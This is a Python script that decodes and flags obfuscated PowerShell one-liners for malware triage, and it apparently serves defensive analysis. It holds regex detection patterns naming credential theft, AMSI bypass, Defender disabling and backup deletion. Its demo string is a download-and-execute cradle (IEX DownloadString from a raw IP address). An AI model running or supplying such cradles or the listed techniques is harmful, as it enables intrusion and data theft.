#!/usr/bin/env python3
"""Peel layers off an obfuscated one-liner. Decodes and prints; never evaluates what comes out.

  peel.py sample.txt
  echo 'powershell -enc ...' | peel.py -
  peel.py --demo
"""
import base64
import binascii
import gzip
import re
import sys
import zlib

MAX_LAYERS = 12

SIGNS = {
    "download": r"DownloadString|DownloadFile|Invoke-WebRequest|\biwr\b|\birm\b|curl\s|certutil.+urlcache|bitsadmin",
    "in-memory execution": r"\bIEX\b|Invoke-Expression|Reflection\.Assembly.+Load|VirtualAlloc|FromBase64String.+Invoke",
    "hidden window": r"-w(indowstyle)?\s+(hidden|1)\b",
    "policy bypass": r"-e(xecution)?p(olicy)?\s+bypass|AmsiUtils|amsiInitFailed",
    "protection off": r"DisableRealtimeMonitoring|ExclusionPath|sc\s+stop\s+WinDefend",
    "persistence": r"schtasks\s+/create|CurrentVersion\\Run|New-ScheduledTask|Startup\\",
    "credential theft": r"Login Data|Local State|sekurlsa|lsass|wallet\.dat|key4\.db|\.aws[\\/]credentials",
    "recovery removal": r"vssadmin.+delete|wbadmin.+delete|recoveryenabled\s+no",
}


def from_enc(text):
    m = re.search(r"-e(?:nc|ncodedcommand|c)?\s+([A-Za-z0-9+/=]{24,})", text, re.I)
    if m:
        raw = b64(m.group(1))
        if raw:
            return raw.decode("utf-16-le", "replace")


def from_b64_blob(text):
    m = re.search(r"['\"]([A-Za-z0-9+/]{40,}={0,2})['\"]", text)
    if not m:
        return None
    raw = b64(m.group(1))
    if not raw:
        return None
    for unpack in (gzip.decompress, zlib.decompress, lambda d: zlib.decompress(d, -15)):
        try:
            return unpack(raw).decode("utf-8", "replace")
        except Exception:
            continue
    for enc in ("utf-8", "utf-16-le"):
        try:
            out = raw.decode(enc)
        except UnicodeDecodeError:
            continue
        if sum(c.isprintable() or c in "\r\n\t" for c in out) / max(len(out), 1) > 0.95:
            return out


def from_chars(text):
    m = re.search(r"((?:\[char\]\s*\(?\d{2,3}\)?\s*\+?\s*){4,})", text, re.I)
    if m:
        out = "".join(chr(int(n)) for n in re.findall(r"\d{2,3}", m.group(1)))
        return text.replace(m.group(1), "'" + out + "'")


def from_concat(text):
    out = re.sub(r"['\"]\s*[+&]\s*['\"]", "", text)
    out = re.sub(r"`(?=[a-zA-Z])", "", out)
    return out if out != text else None


def b64(s):
    try:
        return base64.b64decode(s + "=" * (-len(s) % 4))
    except (binascii.Error, ValueError):
        return None


def peel(text):
    layers = [text]
    for _ in range(MAX_LAYERS):
        for step in (from_enc, from_chars, from_concat, from_b64_blob):
            nxt = step(layers[-1])
            if nxt and nxt not in layers:
                layers.append(nxt)
                break
        else:
            break
    return layers


def defang(text):
    text = re.sub(r"http(s?)://", r"hxxp\1://", text, flags=re.I)
    return re.sub(r"(?<=\w)\.(?=(?:top|click|xyz|com|net|ru|cn|zone|host|site)\b)", "[.]", text)


def report(text):
    layers = peel(text)
    for i, layer in enumerate(layers):
        print(f"--- layer {i} ({len(layer)} chars)\n{defang(layer)[:2000]}")
    whole = "\n".join(layers)
    print("--- signs")
    for name, pattern in SIGNS.items():
        if re.search(pattern, whole, re.I):
            print(" *", name)


DEMO = "IEX (New-Object Net.WebClient).DownloadString('http://185.203.116.44/s.ps1')"

if __name__ == "__main__":
    if "--demo" in sys.argv:
        enc = base64.b64encode(DEMO.encode("utf-16-le")).decode()
        report("powershell -nop -w hidden -enc " + enc)
    elif len(sys.argv) < 2:
        sys.exit(__doc__)
    else:
        src = sys.stdin if sys.argv[1] == "-" else open(sys.argv[1], errors="replace")
        report(src.read())
